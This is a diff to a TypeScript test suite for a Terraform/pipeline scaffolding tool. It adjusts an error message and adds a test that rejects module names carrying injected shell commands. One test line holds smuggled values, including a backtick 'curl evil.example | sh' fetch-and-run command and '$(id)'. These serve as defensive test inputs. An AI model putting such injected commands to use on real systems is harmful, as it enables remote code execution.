@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { githubPipelineText } from '../../../../server/scaffold/pipeline/githubPipeline';
 import { effective } from '../../../support/scaffold/effective';
 import { readSamplePlatform } from '../../../support/scaffold/platformFiles';
+import { clusterText } from '../../../support/server/clusterText';
 import { answerProblems, scaffolded } from '../../../support/scaffold/scaffolded';
 
 const platforms = ['minimal', 'multi-cloud', 'released', 'three-environments'];
@@ -170,7 +171,7 @@ describe('environments', () => {
     ['renameEnvironment', { env: 'apps', to: 'ops' }, /^to: There is an environment ops/],
     ['removeEnvironment', { env: 'apps', confirm: 'apps' }, /^env: apps is the base/],
     ['removeEnvironment', { env: 'ops', confirm: 'ops' }, /^env: ops is where changes are tried/],
-    ['removeEnvironment', { env: 'nothing' }, /^env: "nothing" can't be used here: choose apps or ops/],
+    ['removeEnvironment', { env: 'nothing' }, /^env: "nothing" is not valid: choose apps or ops/],
     ['threeEnvironments', { base: 'apps' }, /^base: There is an environment apps/],
   ] as const) {
     it(`refuse ${kind} with ${JSON.stringify(answers)}`, async () => {
@@ -194,6 +195,20 @@ describe('environments', () => {
           (await answerProblems(texts, kind, answers)).join('\n'),
           /^uri: The environment ".*" can't be a Terraform workspace/,
         );
+    }
+  });
+
+  it('end up in no command beside modules whose names are none', async () => {
+    const before = readSamplePlatform('minimal');
+    for (const name of ['eks_`curl evil.example | sh`', 'eks_$(id)', 'eks_a\nb']) {
+      const texts = {
+        ...before,
+        'evil.tf': clusterText('name_prefix = "gc9"', '', 'evil').replace('"evil"', JSON.stringify(name)),
+      };
+      assert.match(
+        (await answerProblems(texts, 'environment', { env: 'apps-dev' })).join('\n'),
+        /^uri: The module name "eks_.*" is not valid in Terraform/,
+      );
     }
   });
 
